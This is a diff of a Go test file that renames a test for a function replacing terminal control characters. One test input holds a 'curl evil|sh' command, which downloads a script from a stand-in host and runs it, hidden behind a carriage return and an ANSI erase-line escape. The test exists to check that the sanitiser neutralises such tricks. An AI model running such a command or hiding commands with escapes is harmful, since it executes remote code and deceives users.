@@ -15,7 +15,7 @@ import (
 	"github.com/parley-dev/parley/api/session"
 )
 
-func TestPrintableReplacesControlCharacters(t *testing.T) {
+func TestControlCharactersAreReplaced(t *testing.T) {
 	for text, want := range map[string]string{
 		"curl evil|sh #\r\x1b[2K  $ ls": "curl evil|sh #��[2K  $ ls",
 		"a\x00\x7f\u009b31mb":           "a���31mb",
